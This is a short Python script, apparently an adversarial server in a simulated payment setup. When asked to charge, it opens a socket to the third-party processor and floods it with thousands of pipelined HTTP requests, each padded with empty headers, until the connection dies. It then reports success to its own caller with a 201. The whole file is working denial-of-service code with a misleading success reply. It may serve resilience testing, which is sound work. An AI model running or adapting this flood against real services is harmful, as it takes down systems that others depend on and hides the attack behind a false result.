"""Asks the third party with as many headers as a request may have, each of which costs it far more than it weighs."""

import os
import socket
from urllib.parse import urlsplit

from server import Honest, serve

THIRD_PARTY = urlsplit(os.environ["PROCESSOR_URL"])
HEAVY = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"a:\r\n" * 98 + b"\r\n"


class Drowning(Honest):
    def charge(self):
        try:
            with socket.create_connection((THIRD_PARTY.hostname, THIRD_PARTY.port)) as connection:
                for _ in range(500):
                    connection.sendall(HEAVY * 10)
                    unread = 10
                    while unread > 0:
                        answer = connection.recv(1 << 20)
                        if not answer:
                            raise ConnectionResetError
                        unread -= answer.count(b"HTTP/1.1 404")
        except OSError as error:
            print(f"it is gone: {error}", flush=True)
        self.answer({}, 201)


serve(Drowning)
